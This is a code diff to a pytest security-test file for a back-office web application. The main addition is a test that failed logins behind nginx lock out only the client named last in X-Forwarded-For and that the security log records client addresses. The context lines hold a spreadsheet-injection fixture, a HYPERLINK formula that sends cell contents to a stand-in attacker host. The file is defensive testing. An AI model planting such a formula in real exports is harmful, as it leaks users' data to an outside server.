@@ -6,24 +6,29 @@ Each test failed before its fix (see the commit that added it)."""
 import csv
 import io
 import os
+import re
 import stat
 import zipfile
+from pathlib import Path
 
 import openpyxl
 import pytest
+import requests
 import sqlalchemy as sa
 import xlsxwriter
 from docx import Document
 
 from backoffice.extensions import db
-from backoffice.models import Attachment, Contact, Opinion, Unit
+from backoffice.models import Attachment, Contact, Opinion, SecurityEvent, Unit
 from backoffice.public.review import approve, reviewable
 from tests.backoffice.html_forms import form_data
 from tests.backoffice.imports.tables import NEW_SESSION, opinion_row
 from tests.backoffice.imports.test_import_pages import BASE, preview_token, upload
-from tests.conftest import csrf_token
+from tests.conftest import PASSWORD, csrf_token
 from tests.importers.workbook_builders import OPINION_HEADER
+from tests.probe.served import serve, stop
 
+GUNICORN_CONFIG = str(Path(__file__).resolve().parents[3] / "deploy" / "gunicorn.conf.py")
 SQLITE_ONLY = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
 # Text a spreadsheet runs when it is a formula: it calls a server with what it reads.
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
@@ -159,3 +164,40 @@ def test_a_backup_is_readable_by_its_owner_alone(app, tmp_path) -> None:
         os.umask(before)
     assert made.exit_code == 0, made.output
     assert stat.S_IMODE(archive.stat().st_mode) == 0o600
+
+
+def _sign_in_over_http(session: requests.Session, base: str, username: str,
+                       password: str, address: str) -> requests.Response:
+    """Sign in as nginx passes a client on: its address last in X-Forwarded-For."""
+    headers = {"X-Forwarded-For": f"10.9.9.9, {address}"}  # the first one, the client wrote
+    page = session.get(base + "/login", headers=headers, timeout=15).text
+    token = re.search(r'name="csrf_token"[^>]*value="([^"]+)"', page)[1]
+    return session.post(base + "/login", headers=headers, allow_redirects=False, timeout=15,
+                        data={"username": username, "password": password, "csrf_token": token})
+
+
+@SQLITE_ONLY
+def test_behind_nginx_one_clients_wrong_passwords_lock_that_client_alone(
+        app, database_url, tmp_path) -> None:
+    # deploy/gunicorn.conf.py serves behind nginx on this host: every client came from
+    # 127.0.0.1 unless the app believes nginx's X-Forwarded-For, so anyone's few wrong
+    # passwords locked the whole office out, and the security log named no client.
+    served = serve(app, database_url, tmp_path, ("-c", GUNICORN_CONFIG, "--workers", "1"),
+                   workers=1, BACKOFFICE_LOGIN_ADDRESS_MAX_FAILURES="3")
+    try:
+        for attempt in range(3):
+            refused = _sign_in_over_http(requests.Session(), served.base, f"guess{attempt}",
+                                         "wrong-password-1", "203.0.113.7")
+            assert refused.status_code == 200
+        signed_in = _sign_in_over_http(requests.Session(), served.base, "operator", PASSWORD,
+                                       "198.51.100.9")
+        assert signed_in.status_code == 302, signed_in.text[:300]
+        locked = _sign_in_over_http(requests.Session(), served.base, "leader", PASSWORD,
+                                    "203.0.113.7")
+        assert "尝试次数过多" in locked.text
+    finally:
+        stop(served)
+    with app.app_context():
+        addresses = dict(db.session.execute(sa.select(SecurityEvent.username,
+                                                      SecurityEvent.client_address)).all())
+    assert addresses["guess0"] == "203.0.113.7" and addresses["operator"] == "198.51.100.9"
